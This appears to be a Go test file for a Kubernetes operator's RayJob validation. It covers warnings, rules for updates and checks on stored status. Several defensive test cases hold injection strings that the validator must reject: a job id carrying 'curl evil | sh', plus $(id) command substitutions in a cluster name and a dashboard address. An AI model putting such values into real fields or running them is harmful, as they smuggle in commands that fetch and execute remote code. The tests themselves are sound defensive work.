package validation

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/validation/field"
	"k8s.io/utils/ptr"

	rayv1 "github.com/raygate/raygate/apis/ray/v1"
	"github.com/raygate/raygate/internal/features"
	"github.com/raygate/raygate/test/builders"
)

func TestRayJobWarnings(t *testing.T) {
	cases := map[string]struct {
		mutate func(*rayv1.RayJob)
		gates  features.Gates
		want   []string
	}{
		"a valid job": {},
		"what InteractiveMode does not use": {
			mutate: func(j *rayv1.RayJob) {
				j.Spec.SubmissionMode, j.Spec.RuntimeEnvYAML = rayv1.InteractiveMode, "pip: [requests]"
			},
			want: []string{"spec.submissionMode: in InteractiveMode raygate submits nothing, so it does not use entrypoint, runtimeEnvYAML; submit the job yourself and set spec.jobId to its submission id"},
		},
		"clusterSelector keys that select nothing": {
			mutate: jobAll(onSelector, func(j *rayv1.RayJob) { j.Spec.ClusterSelector["team"] = "ml" }),
			want:   []string{"spec.clusterSelector: only ray.io/cluster names the RayCluster the job runs on; team are ignored"},
		},
		"legacy deletion policies": {
			mutate: jobAll(shutdown, legacy(ptr.To(rayv1.DeleteCluster), ptr.To(rayv1.DeleteCluster))),
			want: []string{"spec.deletionStrategy.onSuccess and onFailure are deprecated; use deletionRules, e.g. " +
				"[{policy: DeleteCluster, condition: {jobStatus: SUCCEEDED}}, {policy: DeleteCluster, condition: {jobStatus: FAILED}}]"},
		},
		"an entrypoint beside a submitter of the user's own": {
			mutate: builders.RayJob("job", "ns").SubmitterTemplate("quay.io/kuberay/submitter:v1.5.1", "/submitter").Obj().DeepCopyInto,
			want: []string{"spec.entrypoint is not run by raygate: the first container of spec.submitterPodTemplate has a command of its own, which must submit the job itself " +
				"(RAY_DASHBOARD_ADDRESS and RAY_JOB_SUBMISSION_ID are set for it)"},
		},
		"a pre-running deadline past the active one": {
			mutate: func(j *rayv1.RayJob) {
				j.Spec.ActiveDeadlineSeconds, j.Spec.PreRunningDeadlineSeconds = ptr.To[int32](60), ptr.To[int32](60)
			},
			want: []string{"spec.preRunningDeadlineSeconds is 60, not less than activeDeadlineSeconds 60: the active deadline ends the job first, so it has no effect"},
		},
		"a restarting sidecar on an old Ray": {
			mutate: func(j *rayv1.RayJob) { j.Spec.SubmissionMode = rayv1.SidecarMode },
			gates:  features.Static{features.SidecarSubmitterRestart: true},
			want: []string{"spec.rayClusterSpec.rayVersion is 2.52.0: with the SidecarSubmitterRestart feature gate the submitter container restarts on failure, " +
				"which needs Ray 2.54.0 or newer (and Kubernetes 1.35)"},
		},
		"batch scheduler labels reach the job's cluster": {
			mutate: func(j *rayv1.RayJob) { j.Labels = map[string]string{"volcano.sh/queue-name": "q"} },
			want: []string{"metadata.labels[volcano.sh/queue-name] is for the volcano batch scheduler, but raygate runs without one (--batch-scheduler is not set); " +
				"the label is ignored"},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			gates := tc.gates
			if gates == nil {
				gates = features.Static{}
			}
			errs, warnings := RayJob(job(tc.mutate), gates)
			diffErrors(t, nil, errs)
			diffWarnings(t, tc.want, warnings)
		})
	}
}

func TestRayJobUpdate(t *testing.T) {
	running := func(j *rayv1.RayJob) {
		j.Status.JobDeploymentStatus, j.Status.JobId = rayv1.JobDeploymentStatusRunning, "job-abcde"
	}
	withStatus := func(s rayv1.JobDeploymentStatus) func(*rayv1.RayJob) {
		return func(j *rayv1.RayJob) { j.Status.JobDeploymentStatus = s }
	}
	sidecar := func(j *rayv1.RayJob) { j.Spec.SubmissionMode = rayv1.SidecarMode }
	interactive := func(j *rayv1.RayJob) { j.Spec.SubmissionMode, j.Spec.Entrypoint = rayv1.InteractiveMode, "" }
	noEntrypoint := func(j *rayv1.RayJob) { j.Spec.Entrypoint = "" }
	cases := map[string]struct {
		old, new *rayv1.RayJob
		gates    features.Gates
		want     field.ErrorList
		warnings []string
	}{
		"managedBy: handing a job to MultiKueue": {
			old: job(nil), new: job(func(j *rayv1.RayJob) { j.Spec.ManagedBy = ptr.To(MultiKueueManager) }),
			want: field.ErrorList{field.Invalid(p("spec.managedBy"), nil, "")},
		},
		"managedBy: unset to raygate's value is no change": {
			old: job(nil), new: job(func(j *rayv1.RayJob) { j.Spec.ManagedBy = ptr.To(kubeRayManager) }),
		},
		"the mode of a running job": {
			old: job(running), new: job(jobAll(running, sidecar)),
			want: field.ErrorList{field.Forbidden(p("spec.submissionMode"), "")},
		},
		"the mode of a suspended job": {old: job(withStatus(rayv1.JobDeploymentStatusSuspended)), new: job(jobAll(withStatus(rayv1.JobDeploymentStatusSuspended), sidecar))},
		"the mode of a finished job":  {old: job(withStatus(rayv1.JobDeploymentStatusComplete)), new: job(jobAll(withStatus(rayv1.JobDeploymentStatusComplete), sidecar))},
		"the cluster of a running job": {
			old: job(running), new: job(jobAll(running, onSelector)),
			want: field.ErrorList{field.Forbidden(p("spec.clusterSelector"), "")},
		},
		"the entrypoint of a running job": {
			old: job(running), new: job(jobAll(running, func(j *rayv1.RayJob) { j.Spec.Entrypoint = "python other.py" })),
			warnings: []string{"spec: entrypoint changed while the RayJob is Running; its current attempt keeps what it started with, " +
				"and the change applies from its next attempt (a retry, or a resume after suspending)"},
		},
		"InteractiveMode: the user names the job they submitted while the RayJob waits for it": {
			old: job(jobAll(interactive, withStatus(rayv1.JobDeploymentStatusWaiting))),
			new: job(jobAll(interactive, withStatus(rayv1.JobDeploymentStatusWaiting), func(j *rayv1.RayJob) { j.Spec.JobId = "mine-1" })),
		},
		"InteractiveMode: a new jobId once the job runs applies from the next attempt": {
			old: job(jobAll(interactive, running, func(j *rayv1.RayJob) { j.Spec.JobId = "mine-1" })),
			new: job(jobAll(interactive, running, func(j *rayv1.RayJob) { j.Spec.JobId = "mine-2" })),
			warnings: []string{"spec: jobId changed while the RayJob is Running; its current attempt keeps what it started with, " +
				"and the change applies from its next attempt (a retry, or a resume after suspending)"},
		},
		"ratcheting: a stored job without entrypoint can be relabelled": {
			old: job(noEntrypoint), new: job(jobAll(noEntrypoint, func(j *rayv1.RayJob) { j.Labels = map[string]string{"team": "ml"} })),
		},
		"ratcheting: a change next to the old mistake": {
			old: job(noEntrypoint), new: job(jobAll(noEntrypoint, func(j *rayv1.RayJob) { j.Spec.ActiveDeadlineSeconds = ptr.To[int32](60) })),
		},
		"ratcheting: turning shutdownAfterJobFinishes off under a suspended job counts": {
			old: job(jobAll(shutdown, func(j *rayv1.RayJob) { j.Spec.Suspend = true })), new: job(func(j *rayv1.RayJob) { j.Spec.Suspend = true }),
			want: field.ErrorList{field.Forbidden(p("spec.suspend"), "")},
		},
		"gate turned off: a stored deletion strategy stays": {
			old: job(rules(rule(rayv1.DeleteSelf, rayv1.JobStatusSucceeded, 10))), gates: features.Static{features.RayJobDeletionPolicy: false},
			new: job(jobAll(rules(rule(rayv1.DeleteSelf, rayv1.JobStatusSucceeded, 10)), func(j *rayv1.RayJob) { j.Labels = map[string]string{"a": "b"} })),
		},
		"gate turned off: a changed deletion strategy is refused": {
			old: job(rules(rule(rayv1.DeleteSelf, rayv1.JobStatusSucceeded, 10))), gates: features.Static{features.RayJobDeletionPolicy: false},
			new:  job(rules(rule(rayv1.DeleteSelf, rayv1.JobStatusSucceeded, 20))),
			want: field.ErrorList{field.Forbidden(p("spec.deletionStrategy"), "")},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			gates := tc.gates
			if gates == nil {
				gates = features.Static{}
			}
			errs, warnings := RayJobUpdate(tc.old, tc.new, gates)
			diffErrors(t, tc.want, errs)
			diffWarnings(t, tc.warnings, warnings)
		})
	}
}

func TestStoredRayJob(t *testing.T) {
	cases := map[string]struct {
		job  *rayv1.RayJob
		want field.ErrorList
	}{
		"waiting outside InteractiveMode (KubeRay's status rule)": {
			job:  job(func(j *rayv1.RayJob) { j.Status.JobDeploymentStatus = rayv1.JobDeploymentStatusWaiting }),
			want: field.ErrorList{field.Invalid(p("status.jobDeploymentStatus"), nil, "")},
		},
		"waiting in InteractiveMode": {
			job: job(func(j *rayv1.RayJob) {
				j.Spec.SubmissionMode, j.Status.JobDeploymentStatus = rayv1.InteractiveMode, rayv1.JobDeploymentStatusWaiting
			}),
		},
		"create-only rules are not checked": {
			job: job(jobAll(func(j *rayv1.RayJob) { j.Spec.Entrypoint = "" }, rules(rule(rayv1.DeleteSelf, rayv1.JobStatusSucceeded, 1)))),
		},
		"KubeRay's rules are": {
			job:  job(func(j *rayv1.RayJob) { j.Spec.Suspend = true }),
			want: field.ErrorList{field.Forbidden(p("spec.suspend"), "")},
		},
		"being deleted": {job: job(func(j *rayv1.RayJob) { j.Spec.Suspend, j.DeletionTimestamp = true, &metav1.Time{} })},
		// The status another operator (KubeRay before a switch) or a status writer left.
		"names as KubeRay records them": {
			job: job(func(j *rayv1.RayJob) {
				j.Status.JobId, j.Status.RayClusterName = "train-bpj65", "train-fw52f"
				j.Status.DashboardURL = "train-fw52f-head-svc.team-a.svc.cluster.local:8265"
			}),
		},
		"a dashboard address with a scheme and an IP": {
			job: job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "http://10.0.0.1:8265" }),
		},
		"a recorded submission id the shell would split": {
			job:  job(func(j *rayv1.RayJob) { j.Status.JobId = "x; curl evil | sh" }),
			want: field.ErrorList{field.Invalid(p("status.jobId"), nil, "")},
		},
		"a recorded submission id over its length": {
			job:  job(func(j *rayv1.RayJob) { j.Status.JobId = strings.Repeat("a", MaxJobIDLength+1) }),
			want: field.ErrorList{field.Invalid(p("status.jobId"), nil, "")},
		},
		"a recorded cluster name that is no name": {
			job:  job(func(j *rayv1.RayJob) { j.Status.RayClusterName = "Train $(id)" }),
			want: field.ErrorList{field.Invalid(p("status.rayClusterName"), nil, "")},
		},
		"recorded dashboard addresses that are not host:port": {
			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "svc:8265/$(id)" }),
			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
		},
		"a recorded dashboard address without a port": {
			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "train-head-svc.ns.svc" }),
			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
		},
		"a recorded dashboard address with another scheme": {
			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "file://x:1" }),
			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			diffErrors(t, tc.want, Validator{Gates: features.Static{features.RayJobDeletionPolicy: false}}.StoredRayJob(tc.job))
		})
	}
}
